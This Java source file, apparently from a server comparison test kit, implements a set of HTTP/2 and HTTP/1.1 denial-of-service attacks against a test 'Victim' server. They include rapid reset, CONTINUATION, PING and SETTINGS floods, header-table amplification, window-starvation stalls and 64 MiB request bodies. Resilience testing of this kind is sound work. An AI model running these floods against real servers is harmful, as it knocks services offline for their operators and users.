package dev.onoma.comparison;

import static dev.onoma.testkit.Http2Frames.CONTINUATION;
import static dev.onoma.testkit.Http2Frames.DATA;
import static dev.onoma.testkit.Http2Frames.END_HEADERS;
import static dev.onoma.testkit.Http2Frames.END_STREAM;
import static dev.onoma.testkit.Http2Frames.HEADERS;
import static dev.onoma.testkit.Http2Frames.PING;
import static dev.onoma.testkit.Http2Frames.PRIORITY;
import static dev.onoma.testkit.Http2Frames.SETTINGS;
import static dev.onoma.testkit.Http2Frames.WINDOW_UPDATE;
import static dev.onoma.testkit.Http2Frames.frame;

import dev.onoma.testkit.Http2Frames;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;

/// What is done to HTTP/2 servers, over `https` or `grpc`.
final class Http2Deeds {
    private static final int PATIENCE_MILLIS = 2000;
    private static final int BATCH = 50;
    private static final int BODY_OCTETS = 64 << 20;
    private static final int CHUNK_OCTETS = 16 << 10;
    private static final int HALF_BODY_CHUNKS = 3;
    private static final byte[] NO_WINDOW = {0, 4, 0, 0, 0, 0};
    private static final byte[] ONE_OCTET_WINDOW = {0, 4, 0, 0, 0, 1};
    private static final int FIELDS = 1000;
    private static final int DRIBBLES = 50;
    private static final byte[] TINY_HEADER_LIST = {0, 6, 0, 0, 0, 1};

    private Http2Deeds() {}

    private static Http2Frames connect(Victim victim, String door, byte... settings)
            throws IOException {
        return new Http2Frames(victim.open(door, Victim.ATTACKER), PATIENCE_MILLIS, settings);
    }

    private static byte[] fields(String door, String name) {
        return door.equals("grpc") ? Http2Frames.headers() : Http2Frames.get(Victim.base64(name));
    }

    private static byte[] bodiless(String door) {
        return door.equals("grpc") ? Http2Frames.headers() : Http2Frames.post();
    }

    static Deed rapidReset(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                for (int stream = 1; Deed.isTime(untilNanos); stream += 2) {
                    client.write(Http2Frames.askedAndReset(stream, fields(door, Victim.NAME)));
                }
            }
        });
    }

    static Deed madeYouReset(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                for (int stream = 1; Deed.isTime(untilNanos); stream += 2) {
                    client.write(Http2Frames.begunAndBroken(stream, bodiless(door)));
                }
            }
        });
    }

    static Deed continuations(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                client.write(frame(HEADERS, 0, 1, bodiless(door)));
                while (Deed.isTime(untilNanos)) {
                    client.write(frame(CONTINUATION, 0, 1, (byte) 0x82));
                }
            }
        });
    }

    static Deed pings(String door) {
        return again(door, frame(PING, 0, 0, new byte[8]));
    }

    /// Settings, each of which wants an acknowledgement.
    static Deed settings(String door) {
        return again(door, frame(SETTINGS, 0, 0, NO_WINDOW));
    }

    /// Windows of the connection that get an octet larger.
    static Deed windowUpdates(String door) {
        return again(door, frame(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1}));
    }

    /// Priorities of streams that there are not.
    static Deed priorities(String door) {
        return again(door, frame(PRIORITY, 0, 1001, new byte[] {0, 0, 0, 3, 7}));
    }

    private static Deed again(String door, byte[] frame) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                while (Deed.isTime(untilNanos)) {
                    client.write(frame);
                }
            }
        });
    }

    /// A body of frames without an octet.
    static Deed emptyData(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                client.write(frame(HEADERS, END_HEADERS, 1, bodiless(door)));
                while (Deed.isTime(untilNanos)) {
                    client.write(frame(DATA, 0, 1));
                }
            }
        });
    }

    /// A field that is put into the table once, and named a thousand times in each request: a short
    /// frame, a long list.
    static Deed fields(String door) {
        var block = new ByteArrayOutputStream();
        block.writeBytes(fields(door, Victim.NAME));
        block.write(0x40);
        Http2Frames.string(block, "x-ab");
        Http2Frames.string(block, "v".repeat(120));
        for (int i = 0; i < FIELDS; i++) {
            block.write(0xbe);
        }
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                for (int stream = 1; Deed.isTime(untilNanos); stream += 2) {
                    client.write(
                            frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray()));
                }
            }
        });
    }

    /// Takes large answers an octet at a time, each in a frame of its own.
    static Deed octetByOctet() {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, "https", ONE_OCTET_WINDOW)) {
                for (int stream = 1; stream < 2 * DRIBBLES; stream += 2) {
                    ask(client, stream, Victim.BIG_NAME);
                }
                for (int i = 0; Deed.isTime(untilNanos); i++) {
                    client.write(
                            frame(
                                    WINDOW_UPDATE,
                                    0,
                                    1 + 2 * (i % DRIBBLES),
                                    new byte[] {0, 0, 0, 1}));
                }
            }
        });
    }

    /// Takes no header list of more than one octet, so that no answer can be sent as it is.
    static Deed tinyHeaderList() {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, "https", TINY_HEADER_LIST)) {
                for (int stream = 1; Deed.isTime(untilNanos); stream += 2) {
                    ask(client, stream, Victim.NAME);
                    if (stream % BATCH == 1) {
                        client.end(stream);
                    }
                }
            }
        });
    }

    private static void ask(Http2Frames client, int stream, String name) throws IOException {
        client.write(
                frame(
                        HEADERS,
                        END_HEADERS | END_STREAM,
                        stream,
                        Http2Frames.get(Victim.base64(name))));
    }

    /// Asks for large answers, and has no window for them.
    static Deed answersNotTaken(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door, NO_WINDOW)) {
                for (int stream = 1; Deed.isTime(untilNanos); stream += 2) {
                    if (door.equals("grpc")) {
                        client.call(stream, Http2Frames.packet(Server.query(Victim.BIG_NAME)));
                    } else {
                        ask(client, stream, Victim.BIG_NAME);
                    }
                }
            }
        });
    }

    /// 64 MiB over HTTP/2, within no window.
    static Deed largeBody(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                client.write(frame(HEADERS, END_HEADERS, 1, bodiless(door)));
                for (int sent = 0; sent < BODY_OCTETS; sent += CHUNK_OCTETS) {
                    client.write(frame(DATA, 0, 1, new byte[CHUNK_OCTETS]));
                }
            }
        });
    }

    /// Many bodies at a time, of each of which only the end is missing.
    static Deed halfBodies(String door) {
        return Deed.again((victim, untilNanos) -> {
            try (var client = connect(victim, door)) {
                for (int stream = 1; Deed.isTime(untilNanos); stream += 2) {
                    client.write(frame(HEADERS, END_HEADERS, stream, bodiless(door)));
                    for (int i = 0; i < HALF_BODY_CHUNKS; i++) {
                        client.write(frame(DATA, 0, stream, new byte[CHUNK_OCTETS]));
                    }
                }
            }
        });
    }

    /// 64 MiB over HTTP/1.1, in chunks, so that nobody can know how much it will be.
    static Deed largeBodyInChunks() {
        return Deed.again((victim, untilNanos) -> {
            try (var socket = victim.encrypted("https", Victim.ATTACKER, "http/1.1")) {
                var out = socket.getOutputStream();
                out.write(
                        """
                        POST /dns-query HTTP/1.1\r
                        Host: dns.example\r
                        Content-Type: application/dns-message\r
                        Transfer-Encoding: chunked\r
                        \r
                        """
                                .getBytes(StandardCharsets.US_ASCII));
                var size = "%x\r\n".formatted(CHUNK_OCTETS).getBytes(StandardCharsets.US_ASCII);
                for (int sent = 0; sent < BODY_OCTETS; sent += CHUNK_OCTETS) {
                    out.write(size);
                    out.write(new byte[CHUNK_OCTETS]);
                    out.write(new byte[] {'\r', '\n'});
                }
            }
        });
    }
}
